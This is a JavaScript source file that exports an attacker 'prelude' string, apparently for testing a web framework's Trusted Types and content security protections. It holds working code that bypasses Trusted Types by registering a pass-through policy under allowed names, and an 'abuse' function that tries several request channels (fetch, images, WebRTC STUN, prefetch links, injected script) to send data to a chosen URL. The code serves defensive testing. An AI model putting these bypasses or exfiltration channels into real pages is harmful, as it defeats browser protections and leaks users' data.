/**
 * What hostile code has at hand, as text: it becomes part of a build. It tries to get round Trusted Types as an attacker would, by making a
 * policy under one of the names that the page allows.
 */
export const prelude = `
const inPage = typeof document !== 'undefined';
const wait = (time) => new Promise((done) => setTimeout(done, time));
const namespaces = { svg: 'http://www.w3.org/2000/svg', math: 'http://www.w3.org/1998/Math/MathML' };
const add = (tag, attributes = {}, parent = document.body) => {
  const [space, name] = tag.includes(':') ? tag.split(':') : ['', tag];
  const element = space ? document.createElementNS(namespaces[space], name) : document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
let policy;
const policyOf = () => {
  if (policy !== undefined || !globalThis.trustedTypes) return policy;
  const all = { createHTML: (text) => text, createScript: (text) => text, createScriptURL: (text) => text };
  for (const name of ['svelte-trusted-html', 'default', 'exits'])
    try { return (policy = trustedTypes.createPolicy(name, all)); } catch {}
};
const html = (text) => policyOf()?.createHTML(text) ?? text;
const address = (text) => policyOf()?.createScriptURL(text) ?? text;
const script = (attributes, text = '') => {
  const element = document.createElement('script');
  for (const [key, value] of Object.entries(attributes)) key === 'src' ? (element.src = address(value)) : element.setAttribute(key, value);
  if (text) element.textContent = policyOf()?.createScript(text) ?? text;
  document.head.append(element);
};
const sheet = (text) => {
  const own = new CSSStyleSheet();
  own.replaceSync(text);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, own];
};
/** A cursor is fetched where a mouse is over it, at the latest. */
const hover = async (id) => {
  const element = document.getElementById(id);
  for (const type of ['mouseover', 'mousemove']) element.dispatchEvent(new MouseEvent(type, { bubbles: true }));
};
/** Everything that a window may still have. */
const abuse = (other, to) => {
  const tries = [
    () => void other.fetch(to.url).catch(() => 0),
    () => { new other.Image().src = to.url; },
    () => { const image = other.document.createElement('img'); image.src = to.url; other.document.documentElement.append(image); },
    () => { const peer = new other.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to.host }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
    () => { const link = other.document.createElement('link'); link.rel = 'prefetch'; link.href = to.url; other.document.documentElement.append(link); },
    () => { const element = other.document.createElement('script'); element.textContent = 'fetch(' + JSON.stringify(to.url) + ')'; other.document.documentElement.append(element); },
  ];
  for (const each of tries) try { each(); } catch {}
};
`;
